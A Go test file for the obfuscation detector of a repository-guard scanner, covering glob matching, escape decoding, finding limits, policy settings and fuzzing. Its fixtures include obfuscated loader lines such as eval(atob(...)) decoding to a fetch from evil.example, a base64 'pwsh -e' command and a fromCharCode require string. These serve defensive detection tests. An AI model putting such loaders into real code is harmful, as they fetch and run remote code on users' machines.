package obfuscation

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"

	"github.com/repoguard/repoguard/detectors/detectortest"
	"github.com/repoguard/repoguard/guard"
)

func TestObfGlob(t *testing.T) {
	for _, tc := range []struct {
		pattern, path string
		want          bool
	}{
		{"**/package-lock.json", "package-lock.json", true},
		{"**/package-lock.json", "web/app/package-lock.json", true},
		{"**/package-lock.json", "web/app/package-lock.json.bak", false},
		{"**/*.min.js", "public/js/app.min.js", true},
		{"**/*.min.js", "public/js/app.js", false},
		{"**/vendor/**", "vendor/github.com/x/y.go", true},
		{"**/vendor/**", "src/vendor/lib.js", true},
		{"**/vendor/**", "src/vendors.js", false},
		{"dist/**", "dist/app.js", true},
		{"dist/**", "src/dist/app.js", false},
	} {
		if got := obfGlob(tc.pattern, tc.path); got != tc.want {
			t.Errorf("obfGlob(%q, %q) = %v, want %v", tc.pattern, tc.path, got, tc.want)
		}
	}
}

func TestObfEscapeAt(t *testing.T) {
	for _, tc := range []struct {
		in   string
		r    rune
		size int
	}{
		{`\x41`, 'A', 4}, {`\u0041`, 'A', 6}, {`\u{1F600}`, 0x1F600, 9}, {`\101`, 'A', 4}, {`\0`, 0, 2},
		{`\x4`, 0, 0}, {`\u004`, 0, 0}, {`\u{}`, 0, 0}, {`\u{41`, 0, 0}, {`\n`, 0, 0}, {`\777`, 0, 0}, {`\`, 0, 0},
	} {
		if r, n := obfEscapeAt(tc.in, 0); r != tc.r || n != tc.size {
			t.Errorf("obfEscapeAt(%q) = %q, %d; want %q, %d", tc.in, r, n, tc.r, tc.size)
		}
	}
}

// TestObfuscationOneFindingPerKind checks that repeated lines make one
// finding that counts them.
func TestObfuscationOneFindingPerKind(t *testing.T) {
	var lines []string
	for i := 0; i < 50; i++ {
		lines = append(lines, fmt.Sprintf(`eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlLyVkJyk=%d"));`, i))
	}
	fs := detectortest.Judge(t, Detector, nil, detectortest.Commit("src/a.js", strings.Join(lines, "\n")))
	if len(fs) != 1 || fs[0].Line != 1 || !strings.Contains(fs[0].Message, "and 49 more") {
		t.Fatalf("got %d findings, want one for line 1 and 49 more: %+v", len(fs), fs)
	}
}

func TestObfuscationSettings(t *testing.T) {
	c := detectortest.Commit("src/a.js", `const k = "K5wdfg83xEkhvT9lZOrffxQqcmaMR+Ij0W7djEe0avxbruJh9Tsm";`)
	if fs := detectortest.Judge(t, Detector, nil, c); len(fs) != 0 {
		t.Fatalf("a 52-char literal is below the defaults: %+v", fs)
	}
	pol := &guard.Policy{Detectors: map[string]guard.DetectorPolicy{
		"obfuscation": {Settings: map[string]any{"min_blob_length": 40}},
	}}
	fs := detectortest.Judge(t, Detector, pol, c)
	if len(fs) != 1 || !strings.Contains(fs[0].Message, "base64 blob") {
		t.Fatalf("min_blob_length 40 should report the blob: %+v", fs)
	}
	pol.Detectors["obfuscation"] = guard.DetectorPolicy{Settings: map[string]any{"skip_files": []any{"src/**"}}}
	if fs := detectortest.Judge(t, Detector, pol, detectortest.Commit("src/a.js", `eval(atob("ZmV0Y2g="))`)); len(fs) != 0 {
		t.Fatalf("skip_files should skip src/: %+v", fs)
	}
}

// TestObfuscationOnlyDiffed checks that files whose content was not
// diffed are not looked at.
func TestObfuscationOnlyDiffed(t *testing.T) {
	c := detectortest.Commit("src/a.js", `eval(atob("ZmV0Y2g="))`)
	c.Files[0].Skipped = "too large"
	if fs := detectortest.Judge(t, Detector, nil, c); len(fs) != 0 {
		t.Fatalf("a skipped file was read: %+v", fs)
	}
}

var obfLongRun = regexp.MustCompile(`[A-Za-z0-9+/_-]{32,}`)

// obfFuzzCheck runs the detector over text and checks its invariants: no
// panic, at most one finding per technique, valid locations, and no long
// encoded run of the input repeated in a finding.
func obfFuzzCheck(t *testing.T, path, text string) {
	fs := detectortest.Judge(t, Detector, nil, detectortest.Commit(path, text))
	if len(fs) > obfKinds {
		t.Fatalf("%d findings for one file, want at most %d", len(fs), obfKinds)
	}
	for _, f := range fs {
		if f.Line < 1 || f.Severity == guard.SeverityNone {
			t.Fatalf("bad finding %+v", f)
		}
		for _, e := range append([]string{f.Message}, f.Evidence...) {
			for _, run := range obfLongRun.FindAllString(e, -1) {
				if obfMixed(run) && strings.Contains(text, run) {
					t.Fatalf("evidence repeats %q of the input: %s", run, e)
				}
			}
		}
	}
}

func FuzzObfuscation(f *testing.F) {
	f.Add("src/a.js", `eval(atob("ZmV0Y2goJ2h0dHBzOi8vZXZpbC5leGFtcGxlL2MnKQ=="));`)
	f.Add("setup.py", `exec(base64.b64decode("aW1wb3J0IG9z"))`)
	f.Add("a.js", `var _0x4a2f=['\x68\x74\x74\x70\x73\x3a\x2f\x2f'];_0x1b3c(_0x9e12);`)
	f.Add("a.js", `String.fromCharCode(114,101,113,117,105,114,101,40,39,99,104,105)`)
	f.Add("a.txt", "\\u{1F600}\\u{1F600}\\x41\\101\\u0041\\x42\\x43\\x44\\x45\\x46")
	f.Add("a.go", "var t = []byte{\n\t0x3d, 0x2b, 0x2c, 0x32, 0x7e, 0x73, 0x38, 0x2d,\n\t0x2a, 0x2a, 0x2e, 0x2d, 0x64, 0x71, 0x71, 0x2d,\n}")
	f.Add("x.sol", "hex\"6080604052aa\";\nlet a := create(0, 0, 0)")
	f.Fuzz(func(t *testing.T, path, text string) {
		if path == "" {
			path = "x"
		}
		obfFuzzCheck(t, path, text)
	})
}

func BenchmarkObfuscation(b *testing.B) {
	detectortest.BenchmarkSource(b, Detector, "keymaterial", "obfuscation")
}

// TestObfPowerShellAfterNonASCII: lowering "İ" makes the line longer, and
// the encoded argument must still be read from where the flag is (the
// flag's offset in the lowered line was used on the line itself: the
// argument was missed, or read past the end of the line, a panic).
func TestObfPowerShellAfterNonASCII(t *testing.T) {
	line := strings.Repeat("İ", 40) + " pwsh -e SQBFAFgAIAAoAE4AZQB3AC0A"
	fs := detectortest.Judge(t, Detector, nil, detectortest.Commit("run.ps1", line))
	if len(fs) == 0 || !strings.Contains(fs[0].Message, "Runs PowerShell with an encoded command") {
		t.Fatalf("findings %+v, want the encoded PowerShell command", fs)
	}
}

// TestObfGlobMatchesSlow: the segment-counting obfGlob agrees with trying
// every suffix and prefix, on the default globs and random ones.
func TestObfGlobMatchesSlow(t *testing.T) {
	rng := rand.New(rand.NewPCG(5, 6))
	segs := []string{"a", "b", "vendor", "x.min.js", "dist", "", "a.b", "node_modules"}
	pats := append(append([]string{"**/", "**/**/a", "a/b/**", "**/a/b/**", "**/*", "*/**", "**/a/*/**"},
		obfDefaultSkip...), obfDefaultGenerated...)
	for range 200 {
		var p []string
		for range 1 + rng.IntN(4) {
			p = append(p, segs[rng.IntN(len(segs))])
		}
		pats = append(pats, strings.Join(p, "/"), "**/"+strings.Join(p, "/"), strings.Join(p, "/")+"/**",
			"**/"+strings.Join(p, "/")+"/**")
	}
	for range 2000 {
		var p []string
		for range 1 + rng.IntN(7) {
			p = append(p, segs[rng.IntN(len(segs))])
		}
		path := strings.Join(p, "/")
		for _, g := range pats {
			if got, want := obfGlob(g, path), obfGlobSlow(g, path); got != want {
				t.Fatalf("obfGlob(%q, %q) = %v, the slow way %v", g, path, got, want)
			}
		}
	}
}
